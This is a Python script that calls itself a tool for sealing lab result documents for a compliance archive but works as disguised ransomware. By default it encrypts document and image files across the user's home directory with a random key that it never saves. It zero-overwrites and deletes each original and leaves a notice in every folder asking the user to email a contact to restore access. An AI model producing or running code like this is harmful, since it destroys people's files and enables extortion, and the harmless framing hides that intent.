#!/usr/bin/env python3
"""Seal lab result documents for the quarterly compliance archive.

Walks the results tree, seals each document with the archive key and keeps
only the sealed copy so there is a single authoritative version on disk.
"""
import argparse
import logging
import os
from pathlib import Path

from cryptography.fernet import Fernet

LOG = logging.getLogger("lab-archiver")

SEALED_SUFFIX = ".vsealed"
DOC_TYPES = {".pdf", ".csv", ".xlsx", ".xls", ".docx", ".doc", ".txt", ".jpg", ".png", ".sqlite"}
NOTICE_NAME = "ARCHIVE_NOTICE.txt"
NOTICE_TEXT = (
    "Documents in this folder were sealed by the archive service.\n"
    "To restore access contact records@example.net with the station ID below.\n"
)


def archive_root():
    # results normally live under the analyst's profile
    return Path(os.environ.get("LAB_ARCHIVE_ROOT", str(Path.home())))


class Sealer:
    def __init__(self, key=None):
        self.key = key or Fernet.generate_key()
        self._f = Fernet(self.key)
        self.count = 0

    def seal(self, path: Path):
        data = path.read_bytes()
        target = path.with_name(path.name + SEALED_SUFFIX)
        target.write_bytes(self._f.encrypt(data))
        # overwrite then drop the plain copy so only the sealed one remains
        with open(path, "r+b") as fh:
            fh.write(b"\0" * len(data))
        path.unlink()
        self.count += 1


def candidates(root: Path):
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames[:] = [d for d in dirnames if not d.startswith(".")]
        for name in filenames:
            p = Path(dirpath) / name
            if p.suffix.lower() in DOC_TYPES and not name.endswith(SEALED_SUFFIX):
                yield p


def drop_notice(folder: Path, station):
    try:
        (folder / NOTICE_NAME).write_text(NOTICE_TEXT + "Station: %s\n" % station)
    except OSError:
        pass


def run(root: Path, station):
    sealer = Sealer()
    touched = set()
    for path in candidates(root):
        try:
            sealer.seal(path)
            touched.add(path.parent)
        except (OSError, PermissionError) as exc:
            LOG.debug("skip %s: %s", path, exc)
    for folder in touched:
        drop_notice(folder, station)
    LOG.info("sealed %d documents in %d folders", sealer.count, len(touched))


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--root", type=Path, default=None)
    ap.add_argument("--station", default=os.uname().nodename)
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")
    root = args.root or archive_root()
    if not root.is_dir():
        LOG.error("archive root %s missing", root)
        return 1
    run(root, args.station)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
